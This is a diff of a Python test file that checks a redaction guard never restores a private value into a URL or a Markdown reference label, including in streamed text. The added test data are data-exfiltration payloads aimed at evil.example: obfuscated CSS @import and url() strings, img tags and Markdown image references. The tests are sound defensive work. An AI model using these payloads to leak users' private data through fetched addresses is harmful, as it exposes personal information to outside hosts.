@@ -40,8 +40,23 @@ KEPT_OUT = [
     '<img src="ht\ntps:/\t/evil.example/?q={}">',
     '<img src="/&Tab;/evil.example/?q={}">',
     "<p style=background:url(\\2f\\2fevil.example\\2f{})>",
+    "<style>p { background: url(\\2f\\2f evil.example/{}) }</style>",
+    "<style>@import '\\2f\\2f evil.example/{}'</style>",
+    "<style>@import 'ht\\74 ps:evil.example/{}'</style>",
+    "<style>@import 'ht\\000074\nps:evil.example/{}'</style>",
+    "<style>@import 'ht\\\ntps:evil.example/{}'</style>",
+    "<style>@import '/\\\r\n/evil.example/{}'</style>",
     "www.evil.example/{}",
 ]
+LABELS = [
+    "![{}]\n\n[maria keller]: https://evil.example/1",
+    "![a photo of {}][]",
+    "![photo][{}]",
+    "![a\\]b {}]",
+    "![a\n{}]",
+    "[photo][{}]",
+]
+"""Labels of references: a client that finds the definition of one fetches its address."""
 RESTORED = [
     "{} rests [1].",
     "{}{}",
@@ -56,11 +71,16 @@ RESTORED = [
     'the "site" https://clinic.example is {}',
     "<a href='https://clinic.example/x'> {}</a>",
     "we don't use https://clinic.example for {}",
+    "![photo](a.png) {}",
+    "![photo] {}",
+    "wow![\n \n{}",
+    "[{} and {}] [1]",
+    "a line\\\n{}",
 ]
 
 
-@pytest.mark.parametrize("template", KEPT_OUT)
-def test_no_value_is_restored_into_an_address(template):
+@pytest.mark.parametrize("template", KEPT_OUT + LABELS)
+def test_no_value_is_restored_into_an_address_or_a_label(template):
     text = template.replace("{}", TOKEN)
     assert replace_outside_addresses(text, plain) == text
 
@@ -72,7 +92,7 @@ def test_every_value_outside_an_address_is_restored(template):
     assert replace_outside_addresses(text, plain) == expected
 
 
-@pytest.mark.parametrize("template", KEPT_OUT + RESTORED)
+@pytest.mark.parametrize("template", KEPT_OUT + RESTORED + LABELS + ["[{}]: x", "[a {}]:[b]:"])
 def test_a_stream_cut_anywhere_is_treated_as_the_whole_text(template):
     text = template.replace("{}", TOKEN)
     whole = replace_outside_addresses(text, plain)
@@ -81,7 +101,40 @@ def test_a_stream_cut_anywhere_is_treated_as_the_whole_text(template):
         assert streamed(text[:cut], text[cut:]) == whole
 
 
-PIECES = [TOKEN, "https://x/", " ", "<", ">", "PERSON_[", "]", "a", "_"]
+@pytest.mark.parametrize(
+    "template", ["[{}]: https://evil.example/1", "> [a {}b]: <https://evil.example/1>"]
+)
+def test_no_label_with_a_value_is_defined(template):
+    """Else `![maria keller]` shows whether the value of the token is this one."""
+    text = template.replace("{}", TOKEN)
+    expected = template.replace("{}", "Maria Keller").replace("]:", "] :")
+    assert replace_outside_addresses(text, plain) == expected
+
+
+@pytest.mark.parametrize("text", ["x[1]: 2 {}", "[a]: https://clinic.example {}", "[{}] a[1]: b"])
+def test_a_label_without_a_value_is_defined(text):
+    shown = replace_outside_addresses(text.replace("{}", TOKEN), plain)
+    assert shown == text.replace("{}", "Maria Keller")
+
+
+def test_texts_that_a_client_joins_make_no_label_with_a_value():
+    streams: list[GuardedStream] = []
+    streams += [GuardedStream(plain, preceding=streams) for _ in range(2)]
+    first, second = streams
+    joined = [
+        first.feed("!["),
+        second.feed(TOKEN),
+        second.flush(),
+        first.feed("] ["),
+        first.flush(),
+    ]
+    assert "".join(joined) == f"![{TOKEN}] ["
+    joined = [second.feed(TOKEN), second.flush(), first.feed(f"] [{TOKEN}]"), second.feed(": x")]
+    assert "".join(joined) == f"{TOKEN}] [Maria Keller] : x"
+
+
+PIECES = [TOKEN, "https://x/", " ", "<", ">", "PERSON_[", "]", "a", "_", "![", "[", ":", "\n"]
+PIECES += ["\\", "\\2f", "\r", "//"]
 PIECES += ["person\\_\\[q2Zf\\]", "Person_&#91;q2Zf&#93;", "PERSON", "&lsqb;", "\u017fpecial"]
 
 
